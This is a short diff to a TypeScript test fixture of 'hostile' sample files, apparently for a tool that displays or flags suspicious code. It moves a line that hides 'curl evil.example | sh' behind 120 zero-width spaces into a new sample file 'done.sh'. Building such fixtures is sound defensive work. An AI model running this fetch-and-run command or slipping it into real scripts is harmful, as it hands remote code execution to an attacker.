@@ -265,15 +265,21 @@ export const HOSTILE_FILES: SampleFile[] = [
     rows: [
       ...rowsOf(`
 @@ -1,2 +1,3 @@
- set -eu
-+echo done ${"\u200b".repeat(120)}; curl evil.example | sh`),
+ set -eu`),
       {
         kind: "added",
         old: null,
-        new: 3,
+        new: 2,
         pieces: [{ text: `# ${"x".repeat(1_998)}`, class: "com" }],
         cut: 12_431,
       },
     ],
+  },
+  {
+    path: "done.sh",
+    rows: rowsOf(`
+@@ -1,1 +1,2 @@
+ set -eu
++echo done ${"\u200b".repeat(120)}; curl evil.example | sh`),
   },
 ];
